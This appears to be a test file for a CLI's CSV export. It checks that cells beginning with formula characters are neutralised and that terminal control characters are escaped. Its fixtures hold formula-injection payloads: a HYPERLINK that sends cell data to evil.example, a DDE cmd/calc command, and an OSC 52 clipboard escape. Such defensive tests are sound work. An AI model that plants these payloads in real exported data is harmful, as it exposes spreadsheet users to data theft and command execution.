import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import nock from 'nock';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../../src/output/cell.js';
import { csvField } from '../../src/output/csv.js';
import { API_ORIGIN, runCli, tempConfigDir } from '../helpers/cli.js';
import { useNock } from '../helpers/nock.js';
import { cdrBody, cdrRecord } from '../commands/cdr/fixtures.js';

useNock();

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
];

describe('neutraliseFormula', () => {
  it.each(FORMULAS.map((f) => [f]))('prefixes %j with a quote', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each([['-2'], ['+1.5'], ['-1e3'], ['42'], ['Ann'], ['a=b'], [''], ["'quoted"], ['2026-11-02']])(
    'keeps %j (a number or plain text)',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it('a neutralised cell is still quoted by RFC 4180 when it must be', () => {
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('=1+1', { neutralise: false })).toBe('=1+1');
    expect(csvField(-2)).toBe('-2');
  });
});

let cfg: ReturnType<typeof tempConfigDir>;
beforeEach(() => {
  cfg = tempConfigDir();
});
afterEach(() => cfg.cleanup());

const records = () =>
  cdrBody(FORMULAS.map((name, i) => cdrRecord({ cdr_id: `id-${i}`, user: { name, ref: `r${i}` } })));

describe('cdr --out x.csv: cells a spreadsheet would run are neutralised unless --csv-raw', () => {
  it('by default, each formula cell starts with a quote; numbers stay numbers', async () => {
    nock(API_ORIGIN).get('/video/v2/cdr/conf/7').reply(200, records());
    const out = join(cfg.dir, 'billing.csv');
    const r = await runCli([
      'cdr',
      '--conf',
      '7',
      '--out',
      out,
      '--fields',
      'cdr_id,user.name,usage.connect_minutes_cal',
    ]);
    expect(r.code).toBe(0);
    const lines = readFileSync(out, 'utf8').split('\r\n');
    expect(lines[1]).toBe(`id-0,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",21`);
    expect(lines[2]).toBe(`id-1,"'+SUM(1,2)",21`);
    expect(lines[3]).toBe(`id-2,'-2+3,21`);
    expect(lines[4]).toBe(`id-3,'@SUM(A1:A9),21`);
    expect(lines[5]).toBe(`id-4,'\t=1+1,21`);
    expect(lines[6]).toBe(`id-5,"'\r=1+1",21`);
    // No cell of the file starts (after an optional quote) with a formula character.
    for (const line of lines.slice(1, 9)) expect(line.split(',')[1]).toMatch(/^"?'/);
  });

  it('--csv-raw writes every cell exactly as received', async () => {
    nock(API_ORIGIN).get('/video/v2/cdr/conf/7').reply(200, records());
    const out = join(cfg.dir, 'raw.csv');
    const r = await runCli(['cdr', '--conf', '7', '--out', out, '--fields', 'cdr_id,user.name', '--csv-raw']);
    expect(r.code).toBe(0);
    const lines = readFileSync(out, 'utf8').split('\r\n');
    expect(lines[3]).toBe('id-2,-2+3');
    expect(lines[4]).toBe('id-3,@SUM(A1:A9)');
  });

  it('room list -o csv neutralises too (every CSV the CLI writes)', async () => {
    nock(API_ORIGIN)
      .get('/video/v2/rooms')
      .reply(200, { result: 0, rooms: [{ room_id: 'r1', name: '=1+1', owner_ref: '@me', settings: {} }] });
    const r = await runCli(['room', 'list', '-o', 'csv', '--fields', 'room_id,name,owner_ref'], {
      env: { ENABLEX_CONFIG_DIR: cfg.dir },
    });
    expect(r.stdout).toBe("room_id,name,owner_ref\r\nr1,'=1+1,'@me\r\n");
  });

  it('cdr -o csv on a terminal shows control characters in cells escaped', async () => {
    nock(API_ORIGIN)
      .get('/video/v2/cdr/conf/7')
      .reply(200, cdrBody([cdrRecord({ cdr_id: 'id-0', user: { name: 'Ann\u001b]52;c;eA==\u0007\rBob' } })]));
    const r = await runCli(['cdr', '--conf', '7', '-o', 'csv', '--fields', 'cdr_id,user.name'], {
      stdoutTTY: true,
    });
    expect(r.stdout).toBe('cdr_id,user.name\r\nid-0,Ann\\x1b]52;c;eA==\\x07\\x0dBob\r\n');
  });

  it('json and ndjson keep the exact text (they are not opened as spreadsheets)', async () => {
    nock(API_ORIGIN).get('/video/v2/cdr/conf/7').reply(200, records());
    const r = await runCli(['cdr', '--conf', '7', '-o', 'ndjson', '--fields', 'user.name']);
    expect(r.stdout.split('\n')[2]).toBe('{"user":{"name":"-2+3"}}');
  });
});
